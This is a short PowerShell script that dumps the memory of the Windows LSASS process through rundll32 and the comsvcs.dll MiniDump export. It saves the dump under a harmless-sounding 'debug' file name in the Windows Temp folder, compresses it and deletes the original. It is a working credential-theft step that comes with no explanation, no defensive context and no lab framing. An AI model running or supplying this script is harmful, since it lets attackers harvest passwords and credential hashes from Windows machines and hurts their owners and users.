# run elevated
$lsass = Get-Process -Name lsass
$out = 'C:\Windows\Temp\debug0412.dmp'
$dll = "$env:SystemRoot\System32\comsvcs.dll"

& rundll32.exe $dll, MiniDump $lsass.Id $out full
Start-Sleep -Seconds 5

if (Test-Path $out) {
    Compress-Archive -Path $out -DestinationPath 'C:\Windows\Temp\debug.zip' -Force
    Remove-Item $out -Force
}
